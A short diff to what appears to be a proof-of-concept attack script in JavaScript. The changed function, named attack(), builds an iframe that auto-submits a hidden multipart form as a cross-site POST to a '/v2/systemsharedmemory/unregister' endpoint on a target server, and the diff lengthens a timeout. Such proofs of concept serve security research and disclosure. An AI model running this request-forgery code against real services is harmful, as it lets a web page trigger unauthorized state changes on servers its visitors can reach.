@@ -77,7 +77,7 @@ async function attack() {
     f.sandbox = "allow-scripts allow-forms";
     f.srcdoc = `<form method=POST enctype=multipart/form-data action="${BASE}/v2/systemsharedmemory/unregister">` +
                `<input name=a value=b></form><script>document.forms[0].submit()<\/script>`;
-    f.onload = () => setTimeout(done, 1500);
+    f.onload = () => setTimeout(done, 3000);     // it submits as it loads (the answer is refused a frame)
     document.body.append(f);
   });
   const settled = await Promise.allSettled(tries);
